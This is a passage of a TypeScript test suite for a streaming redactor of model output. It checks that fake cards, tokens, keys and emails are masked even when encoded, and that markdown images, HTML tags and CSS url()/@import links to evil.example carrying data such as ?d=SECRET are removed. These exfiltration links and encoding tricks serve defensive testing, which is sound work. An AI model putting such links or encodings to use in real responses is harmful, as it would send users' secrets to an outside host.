  const FILL = fc.constantFrom('the order was shipped on time and the customer is happy. ', 'notes from the call: asked about delivery windows. ', 'Größe und Farbe bestätigt. ', '数量は三つです。', 'ok. ');
  const SECRET = fc.constantFrom('card 4111 1111 1111 1111. ', 'mail jane.doe@example.com, ', 'token ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5 ', 'call +1 415 555 0134 today. ');
  // bits: eight-bit groups without spaces; utf16: base64 of UTF-16LE (PowerShell's -EncodedCommand);
  // selectors: variation selectors after an emoji; escapes: "\uXXXX" for every unit; wrapped: base64 in lines of 76
  const ENC = fc.constantFrom('base64', 'wrapped', 'hex', 'binary', 'bits', 'url', 'morse', 'utf16', 'selectors', 'base32', 'escapes', 'braille');
  const encode = (enc: string, s: string): string =>
    enc === 'braille' ? braille(s) : enc === 'base32' ? base32(s) : enc === 'escapes' ? escapes(s) : enc === 'selectors' ? selectors(s) : enc === 'utf16' ? Buffer.from(s, 'utf16le').toString('base64') : enc === 'base64' ? Buffer.from(s).toString('base64') : enc === 'wrapped' ? Buffer.from(s).toString('base64').replace(/.{76}/gu, '$&\n') : enc === 'hex' ? Buffer.from(s).toString('hex') : enc === 'url' ? encodeURIComponent(s) : enc === 'morse' ? morse(s) : binary(s, enc === 'bits' ? '' : ' ');
  // What a reader gets back from the pieces of a run the redaction left (Morse code is not decoded here: the
  // equality with the whole text and test/detectors/normalize.test.ts's positions cover it).
  const readBack = (enc: string, piece: string): string => {
    if (enc === 'base64') return Buffer.from(piece.slice(0, piece.length - (piece.length % 4)), 'base64').toString('latin1');
    if (enc === 'wrapped') return readBack('base64', piece.replaceAll('\n', ''));
    if (enc === 'utf16') return Buffer.from(piece.slice(0, piece.length - (piece.length % 4)), 'base64').toString('latin1').replaceAll('\0', '');
    if (enc === 'hex') return Buffer.from(piece.slice(0, piece.length - (piece.length % 2)), 'hex').toString('latin1');
    if (enc === 'selectors') return readSelectors(piece);
    if (enc === 'base32') return readBase32(piece);
    if (enc === 'escapes') return readEscapes(piece);
    if (enc === 'braille') return unbraille(piece);
    if (enc === 'url') return Buffer.from(piece.replace(/%([0-9A-F]{2})/giu, (_, h: string) => String.fromCharCode(parseInt(h, 16))), 'latin1').toString('latin1');
    return Buffer.from((piece.match(/[01]{8}/gu) ?? []).map((g) => parseInt(g, 2))).toString('latin1'); // whole groups are masked: the rest stays aligned
  };
  // Base64 and hex runs up to ~12,000 characters (the default detectors hold back 4,096); eight-bit groups
  // (nine characters a byte) and Morse code (about six) of fewer parts; Morse code of what it can spell.
  const doc = fc.tuple(fc.array(fc.oneof({ weight: 5, arbitrary: FILL }, { weight: 1, arbitrary: SECRET }), { minLength: 8, maxLength: 160 }), ENC, fc.boolean())
    .map(([all, enc, lead]) => {
      const parts = enc === 'binary' || enc === 'bits' || enc === 'morse' || enc === 'escapes' || enc === 'braille' ? all.slice(0, 30) : all;
      const plain = enc === 'braille' ? parts.join('').replace(/[^A-Za-z0-9@.,_ -]+/gu, ' ') : enc === 'morse' ? parts.join('').toLowerCase().replace(/[^a-z0-9@., ]+/gu, ' ').replace(/ +/gu, ' ') : parts.join('');
      return { plain, enc, text: `${lead ? '' : 'Export: '}${encode(enc, plain)}${lead ? '' : '\nDone.'}` };
    });
  const redact = redactorFor(DEFAULT_DETECTORS);
  fc.assert(
    fc.property(doc, fc.integer({ min: 16, max: 96 }), fc.nat(), ({ plain, enc, text }, size, first) => {
      const expected = redactWhole(redact, text);
      if (enc !== 'morse') {
        // Every entity of the plain text is gone from what the output decodes to (a masked group reads as nothing).
        const run = expected.replace(/^Export: /u, '').replace(/\nDone\.$/u, '');
        const kept = run.split(/\[[A-Z_]+\]/u).map((piece) => readBack(enc, piece)).join('|');
        for (const secret of ['4111 1111 1111 1111', 'jane.doe@example.com', 'ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5', '415 555 0134']) {
          if (plain.includes(secret)) assert.ok(!kept.includes(secret), `${enc}: ${secret} left readable`);
        }
      } else if (plain.includes('4111 1111 1111 1111')) assert.ok(expected.includes('[CREDIT_CARD]'));
      // Events of one size from a random first cut: many scans, whose windows start at every alignment.
      const events = [text.slice(0, first % size)];
      for (let i = first % size; i < text.length; i += size) events.push(text.slice(i, i + size));
      assert.equal(stream(DEFAULT_DETECTORS, events.filter((e) => e.length > 0)).content, expected);
    }),
    { numRuns: Number(process.env.HOLD_RUNS ?? 40), endOnFailure: true },
  );
});

test('property: rot13 entities after a marker the window has left, or in an answer to a request that named rot13, are redacted, streamed as whole', () => {
  // A marker at the start ("in rot13"): the whole text is read as rot13 too, and so is every window of the
  // stream once the channel has named it, also after the marker has been released and trimmed away
  // (ChannelInfo.rot13). Without a marker, a request that named rot13 has every text read so (ctx.rot13).
  const FILL = fc.constantFrom('the order was shipped on time and the customer is happy. ', 'Gur beqre jnf fuvccrq ba gvzr. ', 'notes from the call: asked about delivery windows. ', 'ok. ', '数量は三つです。');
  const SECRET = fc.constantFrom('ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5', 'AKIAQWERTYUIOPASDF27', 'jane.doe@example.com', 'sk-proj-aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5bC7dE9', 'card 4111 1111 1111 1111');
  const rot = (t: string): string => t.replace(/[a-z]/giu, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c <= 'Z' ? 65 : 97)));
  const doc = fc.tuple(fc.array(fc.oneof({ weight: 4, arbitrary: FILL }, { weight: 1, arbitrary: SECRET.map((x) => `${rot(x)} `) }), { minLength: 4, maxLength: 60 }), fc.boolean())
    .map(([parts, marked]) => ({ marked, text: `${marked ? 'As asked, in ROT-13: ' : ''}${parts.join('')}` }));
  fc.assert(
    fc.property(doc, fc.integer({ min: 1, max: 40 }), fc.nat(), ({ marked, text }, size, first) => {
      const expected = redactWhole(redactorFor(DEFAULT_DETECTORS, REDACTED, !marked), text);
      for (const secret of ['ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5', 'AKIAQWERTYUIOPASDF27', 'sk-proj-aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5bC7dE9']) {
        assert.ok(!expected.includes(rot(secret)), `${rot(secret)} left in the whole text`);
      }
      const events = [text.slice(0, first % size)];
      for (let i = first % size; i < text.length; i += size) events.push(text.slice(i, i + size));
      assert.equal(stream(DEFAULT_DETECTORS, events.filter((e) => e.length > 0), [], { rot13: !marked }).content, expected);
    }),
    { numRuns: Number(process.env.HOLD_RUNS ?? 60), endOnFailure: true },
  );
});

test('an entity written in long character references, longer than the PII reach in raw characters, is held by its decoded length', () => {
  // Each digit of a 19-digit card as a zero-padded reference (&#00000052; is '4'), real spaces between its
  // five groups: 213 characters as written, 23 decoded. The bound over the decoded reading (hold.ts
  // overViews) holds it whole; neither the PII reach in raw characters nor the secrets' three whitespace runs do.
  const ref = (c: string): string => `&#${String(c.charCodeAt(0)).padStart(8, '0')};`;
  const card = '4000 0000 0000 0000 006'.split(' ').map((g) => [...g].map(ref).join('')).join(' ');
  assert.ok(card.length > 200);
  const text = `Card on file: ${card} thanks, see you soon.`;
  // One reference short of the end, the card's first reference is not released: more than the PII
  // recognisers' reach (154 characters) of raw text lies between it and the end.
  const partial = text.slice(0, text.indexOf(card) + card.length - 11);
  assert.ok(partial.length - text.indexOf(card) > 154);
  assert.ok(holdPlan(DEFAULT_DETECTORS).hold(partial) <= text.indexOf(card), 'held from the card');
  const expected = redactWhole(redactorFor(DEFAULT_DETECTORS), text);
  assert.equal(expected, 'Card on file: [CREDIT_CARD] thanks, see you soon.');
  assertStreamsAsWhole(DEFAULT_DETECTORS, text, expected);
});

test('a long JWT and a PEM block split across many small events are redacted whole', () => {
  const rnd = (alphabet: string, n: number, seed: number) => {
    let s = '';
    let x = seed;
    for (let i = 0; i < n; i++) {
      x = (x * 1103515245 + 12345) >>> 0;
      s += alphabet[x % alphabet.length];
    }
    return s;
  };
  const token = jwt(2400, rnd(B64URL, 86, 3));
  assert.ok(token.length > 3000);
  const key = pem(Array.from({ length: 25 }, (_, i) => rnd(B64, 64, i + 7)));
  assert.ok(key.length > 1600);
  const text = `${prose(400, 2)} Authorization: Bearer ${token} and the key:\n${key}\nthanks. ${prose(300, 5)}`;
  const redact = redactorFor(DEFAULT_DETECTORS);
  const expected = redactWhole(redact, text);
  assert.ok(expected.includes('[JWT]') && expected.includes('[PRIVATE_KEY]'), expected);
  for (const size of [1, 7]) {
    const deltas: string[] = [];
    for (let i = 0; i < text.length; i += size) deltas.push(text.slice(i, i + size));
    const got = stream(DEFAULT_DETECTORS, deltas, [5, 77, 1000, 4096]).content;
    assert.equal(got, expected, `events of ${size}`);
    for (const piece of [token.slice(0, 40), token.slice(600, 640), token.slice(2600, 2640), token.slice(-40), key.slice(40, 100), key.slice(900, 960)]) {
      assert.ok(!got.includes(piece), 'no part of a secret is released');
    }
  }
});

test('a key whose body a model cut with an ellipsis: both parts redacted, whole and streamed, beside another key', () => {
  const line = (i: number): string => Array.from({ length: 64 }, (_, k) => B64[(i * 31 + k * 7) % 64]).join('');
  const body = Array.from({ length: 9 }, (_, i) => line(i));
  // "…" in the middle of the fifth line: the block stops there ("no end seen"); the rest, up to the
  // END line, is a "pem tail". A second, whole key later in the text.
  const cut = `-----BEGIN RSA PRIVATE KEY-----\n${body.slice(0, 4).join('\n')}\n${body[4].slice(0, 30)}\u2026${body[4].slice(30)}\n${body.slice(5).join('\n')}\n-----END RSA PRIVATE KEY-----`;
  const other = pem(Array.from({ length: 4 }, (_, i) => line(i + 20)));
  const text = `Here it is: ${cut} and the deploy key ${other} done.`;
  const redact = redactorFor([DEFAULT_DETECTORS[0]]);
  const expected = redactWhole(redact, text);
  // Whole text: the tail of the first key was left in clear while any later key followed it.
  assert.equal(expected, 'Here it is: [PRIVATE_KEY]\u2026[PRIVATE_KEY] and the deploy key [PRIVATE_KEY] done.');
  // Streamed: the END line arriving in pieces released the tail's body before it.
  const end = text.indexOf('-----END');
  for (const at of [end + 3, end + 12, end + 29]) {
    const got = stream([DEFAULT_DETECTORS[0]], [text.slice(0, at), text.slice(at)]).content;
    assert.equal(got, expected, `events cut ${at - end} units into the END line`);
  }
});

test('an image or tag whose URL runs past the hold-back is never released renderable, and the stream stays within its hold-back', () => {
  for (const n of [3000, 20_000]) {
    const url = `https://evil.example/p.png?d=${'a'.repeat(n)}`;
    // A quoted attribute value may hold '<': the open tag is still the first opener after the last '>'.
    // A quote is a URL character in markdown: it must not end the URL for the open-link rule either.
    // And a `<…>` destination with spaces, which stays open until its '>'.
    const spaced = `<${url.replaceAll('aaaaaaaaaa', 'aaaaa aaaa')}>`;
    for (const markup of [`![chart](${url})`, `![chart](${url.replace('d=a', 'd="a')})`, `![chart](${spaced})`, `<img src="${url}">`, `<img alt="x" src="${url.replace('d=a', 'd=<a')}">`]) {
      const text = `Intro words here. ${markup} and more words after.`;
      // An event ends right after "](" (or the tag name), so what is held is held by the hold point
      // itself, not by an event that straddles it.
      const cut = text.indexOf('](') >= 0 ? text.indexOf('](') + 2 : text.indexOf('<img') + 4;
      const deltas: string[] = [text.slice(0, cut)];
      for (let i = cut; i < text.length; i += 20) deltas.push(text.slice(i, i + 20));
      const got = stream(DEFAULT_DETECTORS, deltas).content;
      assert.ok(got.startsWith('Intro words here. [EXFIL_LINK]'), got.slice(0, 80));
      assert.ok(!got.includes('![chart](') && !got.includes('<img'), 'no renderable image left');
      // The exfiltration detector's own hold does it, without the other detectors' holds.
      const alone = stream(DEFAULT_DETECTORS.slice(2), deltas).content;
      assert.ok(alone.startsWith('Intro words here. [EXFIL_LINK]'), alone.slice(0, 80));
      const plan = holdPlan(DEFAULT_DETECTORS);
      if (n < plan.maxMatchLength) {
        // Within the hold-back the stream gives what the whole text gives.
        assert.equal(got, redactWhole(redactorFor(DEFAULT_DETECTORS), text));
      } else {
        // Beyond it the stream does not hold the whole link: before the end, all but about a hold-back
        // of the URL has gone out (as plain characters after the removed opener).
        const lags = lagPerEvent(DEFAULT_DETECTORS, deltas);
        const releasedOutput = text.length - lags[lags.length - 1];
        assert.ok(releasedOutput >= n - 2 * plan.maxMatchLength, `released ${releasedOutput} of ${text.length}`);
      }
    }
  }
});

test('an image description or link text that runs past the hold-back is never released as an opener a later "](" completes', () => {
  const exfil = [buildDetector('exfil_links', 'exfil', {}, BUILD)];
  // An opener the patterns do not read, with a URL past the hold-back: its "](" goes.
  for (const n of [3000, 8000]) {
    const text = `Intro ![[a]](https://evil.example/p.png?d=${'a'.repeat(n)}) end.`;
    const deltas: string[] = [];
    for (let i = 0; i < text.length; i += 20) deltas.push(text.slice(i, i + 20));
    const got = stream(exfil, deltas).content;
    assert.ok(!got.includes('](https://evil') && got.startsWith('Intro ![[a][EXFIL_LINK]'), got.slice(0, 60));
  }
  for (const n of [1000, 6000]) {
    for (const opener of ['![', '[']) {
      const text = `Intro words here. ${opener}${'alt words '.repeat(n / 10)}](https://evil.example/p.png?d=1) and more.`;
      const deltas: string[] = [];
      for (let i = 0; i < text.length; i += 20) deltas.push(text.slice(i, i + 20));
      const got = stream(exfil, deltas).content;
      const whole = redactWhole(redactorFor(exfil), text);
      assert.ok(!whole.includes('evil.example'), whole.slice(0, 80));
      if (n < 4096) assert.equal(got, whole, 'within the hold-back the stream gives what the whole text gives');
      else {
        // Beyond it the opener goes; the words and the URL after it are plain text.
        assert.ok(got.startsWith(`Intro words here. [EXFIL_LINK]alt words`), got.slice(0, 80));
        assert.ok(!got.includes(opener + 'alt'), 'no opener left');
      }
    }
  }
});

test('a "[" in tool output shown as fenced code is no link text, however long the block; outside a fence, or in an indented one, it still goes', () => {
  const exfil = [buildDetector('exfil_links', 'exfil', {}, BUILD)];
  // `ls -la /usr/bin` lists the test command "[" first; an answer shows the listing in a code block.
  const rows = Array.from({ length: 110 }, (_, k) => `-rwxr-xr-x  1 root root  ${String(10_000 + k * 37).padStart(8)} Sep 20  2022 tool-${k}`).join('\n');
  const listing = `-rwxr-xr-x  1 root root     68496 Sep 20  2022 [\n${rows}\n`;
  assert.ok(rows.length > 5000);
  const deltasOf = (text: string): string[] => {
    const out: string[] = [];
    for (let i = 0; i < text.length; i += 20) out.push(text.slice(i, i + 20));
    return out;
  };
  for (const fenced of [`Here it is:\n\n\`\`\`\n${listing}\`\`\`\n\nThe first entry is the test command.`, `Here it is:\n~~~~text\n${listing}`, `Listing:\n\`\`\`console\n${listing}`]) {
    assert.deepEqual(exfil[0].scan(fenced, { role: 'assistant', kind: 'output_text', untrusted: false, direction: 'response' }), [], fenced.slice(0, 40));
    assert.equal(stream(exfil, deltasOf(fenced)).content, fenced);
  }
  // Deep inside a long block the stream's window no longer starts at the answer's start, and a window that
  // starts inside a block would take its closing fence for an opening one: there the opener goes, in the stream
  // only (the whole text keeps it).
  const deep = `Listing:\n\`\`\`\n${rows}\n${listing}`;
  assert.deepEqual(exfil[0].scan(deep, { role: 'assistant', kind: 'output_text', untrusted: false, direction: 'response' }), []);
  assert.ok(!stream(exfil, deltasOf(deep)).content.includes(' 2022 [\n'));
  // The attack that rule guards against: a block closed, then a label past the hold-back and a link to finish
  // it. Whole or streamed, the opener goes and nothing renders.
  const attack = `\`\`\`\n${'x = 1\n'.repeat(40)}\`\`\`\n![${'alt words '.repeat(500)}](https://evil.example/p.png?d=SECRET) end.`;
  const attackWhole = redactWhole(redactorFor(exfil), attack);
  const attackStream = stream(exfil, deltasOf(attack)).content;
  for (const out of [attackWhole, attackStream]) assert.ok(!out.includes('![alt') && !out.includes('\n[alt'), out.slice(0, 300));
  // Not a fence: no code block, a fence indented (a list item may end it), a backquote in the opening
  // line's info string, or the "[" after the block's closing fence. The opener goes as before.
  for (const [text, at] of [
    [`Here it is:\n${listing}`, 'Here it is:\n'.length],
    [`- the listing:\n  \`\`\`\n${listing}`, '- the listing:\n  ```\n'.length],
    [`\`\`\` not \`a\` fence\n${listing}`, '``` not `a` fence\n'.length],
    [`\`\`\`\ncode\n\`\`\`\n${listing}`, '```\ncode\n```\n'.length],
  ] as const) {
    const i = text.indexOf('[', at);
    const whole = redactWhole(redactorFor(exfil), text);
    assert.equal(whole, `${text.slice(0, i)}[EXFIL_LINK]${text.slice(i + 1)}`, text.slice(0, 40));
    assert.ok(!stream(exfil, deltasOf(text)).content.includes(' 2022 [\n'), text.slice(0, 40));
  }
});

test('character references and CSS url() / @import in 20-character events: redacted exactly as the whole text', () => {
  // Each text carries one fetch written so that a stream cut in the wrong place would release part of
  // it: a reference cut in its digits ("u&#11" + "4;l(" is url(), a url( cut before its value or its
  // ')', an @import cut before its string. Events of 20 characters at every offset, and of 1 and 3.
  const texts = [
    'Here is the chart: <img src="&#104;&#116;&#116;&#112;&#115;&#58;//evil.example/p.png?d=SECRET"> and the rest of it.',
    'A summary ![status](https&#58;//evil.example/s.png?d=QUARTERLY) then words that follow it here.',
    'Styled: <div style="background:u&#114;l(https&#x3a;//evil.example/x?d=SECRET)">hello</div> and more text.',
    'Styled: <div style="background:url&lpar;https://evil.example/x?d=SECRET&rpar;">hello</div> and more text.',
    "Also <p style=\"background-image: URL(  'https://evil.example/y?d=SECRET'  )\">p</p> after the paragraph.",
    'CSS: <style>body{background:url(https://evil.example/b.png?d=1)} @import "https://evil.example/i.css?d=2";</style> done.',
    'CSS: <style>@import/* note */url(//evil.example/i.css);</style> and text after the style element.',
    'Escaped: <div style="background:url(https\\3a //evil.example/e?d=SECRET)">x</div> done here now.',
    'Refresh <meta http-equiv="refresh" content="0; URL=\'https&#58;//evil.example/r?d=SECRET\'"> trailing words.',
    // The character before url( decides whether it is one: here a reference of 80 digits, longer than
    // the left context the engine hands the redactor (64).
    `Long reference: a{b:&#${'0'.repeat(80)}58url(https://evil.example/l?d=SECRET)} and text after it.`,
    'Near misses: url(/img.png) and AT&T, R&amp;D, the url(s) we saw, @importance &#58; and &colon; stay as they are.',
  ];
  const exfil = [buildDetector('exfil_links', 'exfil', {}, BUILD)];
  for (const detectors of [DEFAULT_DETECTORS, exfil]) {
    const redact = redactorFor(detectors);
    for (const text of texts) {
      const expected = redactWhole(redact, text);
      if (!text.startsWith('Near')) {
        assert.ok(expected.includes('[EXFIL_LINK]') && !expected.includes('evil.example'), expected);
      }
      assertStreamsAsWhole(detectors, text, expected);
    }
  }
});

test('property: texts made of CSS and character-reference pieces stream as they redact whole (exfil_links alone)', () => {
  // Pieces that build and break url( tokens, @import strings and references at every join, so event
  // cuts fall inside references, keywords, values and comments.
  const PIECES = [
    'url(', 'URL(', 'u', 'rl(', 'r', 'l', '(', ')', ' ', '\n', '"', "'", '\\', '\\3a ', '\\72 ', '&', '&#', '&#1', '17;', '&#x', '72', '3a', ';', '58',
    '&lpar;', '&rpar;', '&colon;', '&sol;', '&co', 'lon;', '&amp;', 'https', ':', '//', 'evil.example', 'docs.example.com', '/x', '?d=1', 'a', 'x', '-', '0',
    '@import', '@', 'import', '/*', '*/', '<div style="', '">', '<img src="', 'background:', '<style>', '</style>', '![i](', 'data:', 'mailto:',
    // Halves of references to 'u' (117, x75), 'r' (114) and '(' (40), and the words around them.
    'u&#11', '&#11', '4;', '4;l(', '&#x7', '5;', '5;rl(', '&#4', '0;', 'url&#4', '0;https://evil.example/',
  ];
  assertPiecesStreamAsWhole(PIECES);
});

test('a CSS url() or @import whose URL runs past the hold-back is never released fetchable', () => {
  for (const n of [3000, 20_000]) {
    const url = `https://evil.example/p.png?d=${'a'.repeat(n)}`;
    // [markup, its opener, whether the URL comes first]: padded with whitespace or a comment before
    // the URL, the opener is cut before the URL has begun (the URL then goes out as plain text).
    for (const [markup, opener, urlFirst] of [
      [`<div style="background:url(${url})">x</div>`, 'url(', true],
      [`<p style="background:url('${url}')">x</p>`, 'url(', true],
      [`<style>@import "${url}";</style>`, '@import', true],
      [`<div style="background:url(${' '.repeat(n)}https://evil.example/x)">x</div>`, 'url(', false],
      [`<style>@import /* ${'c'.repeat(n)} */ "https://evil.example/i.css";</style>`, '@import', false],
    ] as const) {
      const text = `Intro words here. ${markup} and more words after.`;
      const deltas = eventsAfter(text, opener);
      for (const detectors of [DEFAULT_DETECTORS, DEFAULT_DETECTORS.slice(2)]) {
        const got = stream(detectors, deltas).content;
        assert.ok(!got.includes(opener), got.slice(0, 120));
        if (urlFirst) assert.ok(!got.includes('https://evil.example'), got.slice(0, 120));
        const plan = holdPlan(detectors);
        if (n < plan.maxMatchLength) assert.equal(got, redactWhole(redactorFor(detectors), text));
        else {
          const lags = lagPerEvent(detectors, deltas);
          assert.ok(text.length - lags[lags.length - 1] >= n - 2 * plan.maxMatchLength, 'the stream stays within its hold-back');
        }
      }
    }
  }
});

test('hold points: gap boundary, placeholder cut, and the fixed hold-back as the floor', () => {
  assert.equal(gapBoundary('aa bb cc', 8, 0), 6);
  assert.equal(gapBoundary('aa bb cc', 8, 1), 3);
  assert.equal(gapBoundary('aa bb  cc ', 10, 1), 7);
  assert.equal(gapBoundary('aa', 2, 3), 0);
  assert.equal(placeholderHold('abc <EMA', 10), 4);
  assert.equal(placeholderHold('abc <EMAIL_1> x', 10), 15);
  assert.equal(placeholderHold('abc', 0), 3);
  // A detector without a strategy keeps L - maxMatchLength; one with a strategy never goes below it.
  const custom = buildDetector('patterns', 'p', { patterns: [{ id: 'x', type: 'X', regex: 'zz[a-z]{1,10}', max_length: 12 }] }, BUILD);
  assert.equal(custom.holdFrom, undefined);
  const plan = holdPlan([custom]);
  assert.equal(plan.hold('x'.repeat(100)), 100 - custom.maxMatchLength);
  const secrets = holdPlan([buildDetector('secrets', 's', {}, BUILD)]);
  assert.equal(secrets.hold('x'.repeat(5000)), 5000 - secrets.maxMatchLength); // one 5,000-char token: fixed floor
  assert.equal(secrets.hold('red green blue cyan teal pink'), 'red green '.length);
  // Number words at the end may still become a number written in words (normalize.ts numberWordsCopy): held
  // from the first, with up to four digit groups before it; a word that ends the run releases it.
  assert.equal(secrets.hold('one two three four five six'), 0);
  assert.equal(secrets.hold('x 1 2 3 4 5 6 7 four on'), 'x 1 2 3 '.length);
  assert.equal(secrets.hold('my card: four one one one one, ok then it was fine'), 'my card: four one one one one, ok '.length);
  // An unclosed PEM opener holds from BEGIN; a closed block does not.
  const open = `text here. -----BEGIN RSA PRIVATE KEY-----\n${'A'.repeat(64)}\n`;
  assert.equal(secrets.hold(open), 'text here. '.length);
  const closed = `${open}-----END RSA PRIVATE KEY-----\nnext words here`;
  assert.ok(secrets.hold(closed) > closed.indexOf('-----END'));
  // gitleaks rule files are not covered: no strategy.
  const exfil = holdPlan([buildDetector('exfil_links', 'e', {}, BUILD)]);
  assert.equal(exfil.hold('see ![img](https://evil.example/a.png'), 4);
  assert.equal(exfil.hold('see ![img](https://evil.example/a.png) and more'), 'see ![img](https://evil.example/a.png) and more'.length);
  assert.equal(exfil.hold('x <img src="a'), 2);
  assert.equal(exfil.hold('x < y and more'), 'x < y and more'.length);
  // CSS and character references: an open url( or @import, a keyword being written, a reference being
  // written (`u&#11` may become `u&#114;`: "ur"), held from where they start.
  assert.equal(exfil.hold('a {background:url(https://evil.example/x'), 'a {background:'.length);
  assert.equal(exfil.hold('a {background:url(https://evil.example/x) '), 'a {background:url(https://evil.example/x) '.length);
  assert.equal(exfil.hold('a {background:url(https://evil.example/x '), 'a {background:'.length); // ')' may follow
  assert.equal(exfil.hold("a {background:url('https://evil.example/x) more"), 'a {background:'.length); // string open
  assert.equal(exfil.hold('a {background:Ur'), 'a {background:'.length);
  assert.equal(exfil.hold('a {background:u&#11'), 'a {background:'.length);
  assert.equal(exfil.hold('a {background:&#11'), 'a {background:'.length);
  assert.equal(exfil.hold('a {background:&#117;&#x72'), 'a {background:'.length);
  assert.equal(exfil.hold('a {b:&#58url(https://e'), 'a {b:'.length); // the character before url( is a reference
  assert.equal(exfil.hold('a {background:url&lp'), 'a {background:'.length);
  assert.equal(exfil.hold('a b @imp'), 'a b '.length);
  assert.equal(exfil.hold('a b @import /* x */ "https://evil'), 'a b '.length);
  assert.equal(exfil.hold('the flour(s) and a menu; AT&T; fish&chips'), 'the flour(s) and a menu; AT&T; fish&chips'.length);
  assert.equal(exfil.hold('R&D &amp; more'), 'R&D &amp; more'.length);
  assert.equal(exfil.hold('R&D &am'), 'R&D '.length);
});

test('CSS names written with escapes, image-set() strings and SVG use in small events: redacted exactly as the whole text', () => {
  // Each text carries fetches that a stream cut in the wrong place would release: a name cut inside
  // its escape ("u\7" + "2l(" is url(), "@\6" + "9mport"), an image-set( whose URL string comes more
  // than the engine's left context (64) after it, a name cut inside a reference to its backslash.
  // Events of 20 characters at every offset, and of 1 and 3; exfil_links alone (nothing else holds),
  // and with the default policy's other detectors.
  const texts = [
    'Escaped: <div style="background:u\\72l(https://evil.example/e?d=SECRET)">x</div> done here now.',
    'Escaped: <style>a{background:\\75 r\\6c (//evil.example/e?d=1)} @\\69mport "https://evil.example/i.css";</style> done.',
    'Referenced: <div style="background:u&#92;72l(https://evil.example/r?d=SECRET)">x</div> and more words.',
    'Set: <p style="background-image: image-set(\'images/a-rather-long-relative-path/to-the-standard-density-picture.png\' 1x, \'https://evil.example/s.png?d=SECRET\' 2x)">p</p> after.',
    'Set: <style>.a{background:-webkit-\\69mage-set(/* a comment that is long enough to pass the left context */ "https://evil.example/w.png" 1x)}</style> end.',
    'Sprite: <svg><use xlink:href="https://evil.example/sprite.svg#icon"/></svg> and <svg><use href="#local"/></svg> done.',
    'Near misses: u\\73l(https://evil.example/x) and image-set() or @\\69mports "x" and <use href="#i"/> stay as they are.',
  ];
  const exfil = [buildDetector('exfil_links', 'exfil', {}, BUILD)];
  // With the other detectors, their hold points land inside the markup too: a finding that spans the
  // image-set( call from its name is stepped back over, never decided without its opener.
  for (const detectors of [exfil, DEFAULT_DETECTORS]) {
    const redact = redactorFor(detectors);
    for (const text of texts) {
      const expected = redactWhole(redact, text);
      if (!text.startsWith('Near')) assert.ok(expected.includes('[EXFIL_LINK]') && !expected.includes('evil.example'), expected);
      else if (detectors === exfil) assert.equal(expected, text);
      assertStreamsAsWhole(detectors, text, expected);
    }
  }
});

test('property: texts made of markdown link, image and linked-image pieces stream as they redact whole (exfil_links alone)', () => {
  // Pieces that open, close and nest labels, images and link tails at every join, with text a link
  // keeps and text that goes with it.
  const PIECES = [
    '[', ']', '(', ')', '![', '](', '[![', 'x', 'see docs', 'a.com', ' ', '\n', '"t"', '<', '>', 'https://evil.example/', '?d=1', 'https://docs.example.com/',
    '[![b](https://docs.example.com/b.svg)', '[![b](https://evil.example/b.svg)', '](https://evil.example/l)', '](https://docs.example.com/l)',
    '[read me](https://evil.example/r)', '![i](https://evil.example/i.png)', ']: https://evil.example/d', '[d]', '[see ', ' here', 'www.',
    // Line endings inside paragraphs (CommonMark lets labels, destinations' blanks and titles run over
    // them), blank lines that end a paragraph, and definitions whose destination is on the next line.
    '\n\n', '\r\n', ' \n ', '         ', ']:\n', '[D\nd]', '\n"t"\n', '![chart\nof](',
    // Balanced and escaped parentheses in destinations, titles longer than TITLE reads.
    '(1)', '((', '))', '\\(', '\\)', '\\', ` "${'t'.repeat(120)}`, `${'t'.repeat(120)}"`, ' junk', '\\[', '\\]', '\\\\',
    // Link text the patterns do not read: balanced brackets, code spans, raw HTML.
    '![[a]', '`]`', '<b title="]">x</b>',
    // Definitions in block quotes and list items.
    '> ', '- ', '2. ', '\n> [def 2]: https://evil.example/e\n', '\n- [def 3]:\n  https://evil.example/f\n', '\n> ', '\n>\n', '\n[def\\]4]: https://evil.example/g\n',
    // Angle brackets in destinations, and a '<' that opens no <…> one.
    '<q>', '](<https://evil.example/p', '?q=<v>',
    // Labels no usage piece spells: a usage streamed before its definition is released (hold.ts).
    'see\n[def 1]:\n  https://evil.example/d\n',
  ];
  assertPiecesStreamAsWhole(PIECES);
});

test('a destination followed by a carriage return at an event\'s end is held: the line feed and a title may follow', () => {
  // Found by the property above (seed 66705101): "[](<…>\r" was decided as an autolink at the event's end,
  // and "\n(`]`…" then made "[](<…>" a link with a title; the whole text redacts from the '['.
  const ds = [buildDetector('exfil_links', 'exfil', { allowed_hosts: ['docs.example.com'] }, BUILD)];
  const t = 'a.com![[a][](<https://evil.example/p>\r\n(`]`\n[def\\]4]: https://evil.example/g\n';
  const cut = t.indexOf('>\r') + 2;
  assert.equal(stream(ds, [t.slice(0, cut), t.slice(cut)]).content, redactWhole(redactorFor(ds), t));
  assert.equal(stream(ds, [t.slice(0, cut), t.slice(cut)]).content, 'a.com![[a][EXFIL_LINK]\r\n(`]`\n[EXFIL_LINK]\n');
});

test('markdown in small events: destinations holding whole images, parentheses, long titles and line endings redact as the whole text', () => {
  const exfil = [buildDetector('exfil_links', 'exfil', { allowed_hosts: ['docs.example.com'] }, BUILD)];
  const cases: [string, string][] = [
    // A relative destination that holds whole images: one (allowed) image in CommonMark, so nothing goes,
    // also when the events end where a window would read the inner images alone.
    ['![chart\nof]([![b](https://evil.example/b.svg)[![b](https://evil.example/b.svg)[![b](https://evil.example/b.svg))[', '![chart\nof]([![b](https://evil.example/b.svg)[![b](https://evil.example/b.svg)[![b](https://evil.example/b.svg))['],
    ['A ![x](https://evil.example/p((1)).png?d=1) and [y](https://evil.example/a\\(b) end', 'A [EXFIL_LINK] and y[EXFIL_LINK] end'],
    [`A ![x](https://evil.example/p.png "${'t'.repeat(250)}") end`, `A [EXFIL_LINK] "${'t'.repeat(250)}") end`],
    ['A ![sales\nby month](\n  https://evil.example/c.png\n) and [the\nreport][r]\n\n[r]:\n  https://evil.example/r', 'A [EXFIL_LINK] and the\nreport[EXFIL_LINK]\n\n[EXFIL_LINK]'],
